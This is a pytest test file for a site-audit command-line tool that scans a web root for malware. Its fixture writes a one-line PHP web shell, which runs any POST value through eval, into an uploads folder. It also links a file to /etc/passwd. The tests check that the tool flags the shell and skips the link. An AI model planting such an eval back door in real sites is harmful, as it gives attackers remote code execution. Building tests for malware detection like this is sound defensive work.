"""`audit --path` as a person calls it, on a small site with inert samples in it."""

import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from sentry.cli import build


@pytest.fixture
def docroot(tmp_path: Path) -> Path:
    """A site with a page, a back door in uploads, and a file that cannot be looked at."""
    root = tmp_path / "site"
    (root / "wp-content" / "uploads").mkdir(parents=True)
    (root / "index.php").write_text("<?php echo htmlspecialchars($_GET['name']);")
    (root / "wp-content" / "uploads" / "x.php").write_text("<?php\n$c = $_POST['[b]'];\n@eval($c);\n")
    (root / "link.php").symlink_to("/etc/passwd")
    return root


def test_audit_of_an_infected_site_shows_the_way_and_exits_with_the_code_of_malware(docroot: Path) -> None:
    """What was found, the lines from source to sink as they were written, and what was not looked at."""
    done = CliRunner().invoke(build(), ["audit", "--path", str(docroot)])

    assert done.exit_code == 12
    assert "confirmed wp-content/uploads/x.php" in done.stdout
    assert "what a visitor sends is run as PHP (eval)" in done.stdout
    assert "2  $c = $_POST['[b]']" in done.stdout
    assert "not_looked_at link.php" in done.stdout
    assert "2 files looked at, 2 of them scripts" in done.stdout


def test_audit_as_json_holds_the_whole_report(docroot: Path) -> None:
    """For programs: findings with their signs, and the manifest."""
    done = CliRunner().invoke(build(), ["audit", "--path", str(docroot), "--json"])

    report = json.loads(done.stdout)
    finding, left_out = report["findings"]
    assert (left_out["path"], left_out["verdict"]) == ("link.php", "not_looked_at")
    assert (finding["path"], finding["verdict"]) == ("wp-content/uploads/x.php", "confirmed")
    assert [line["number"] for line in finding["signs"][0]["way"]] == [2, 3]
    assert report["manifest"]["files"] == 2


def test_audit_of_a_clean_site_exits_with_nought(docroot: Path) -> None:
    """Words alone are no finding."""
    (docroot / "wp-content" / "uploads" / "x.php").unlink()

    done = CliRunner().invoke(build(), ["audit", "--path", str(docroot)])

    assert done.exit_code == 0
    assert "1 not looked at" in done.stdout


def test_audit_of_no_folder_says_what_to_give(docroot: Path) -> None:
    """The folder that was named, and what is wanted in its place."""
    done = CliRunner().invoke(build(), ["audit", "--path", str(docroot / "index.php")])

    assert done.exit_code == 5
    assert "is no folder; give the folder that the site is served from" in done.stderr
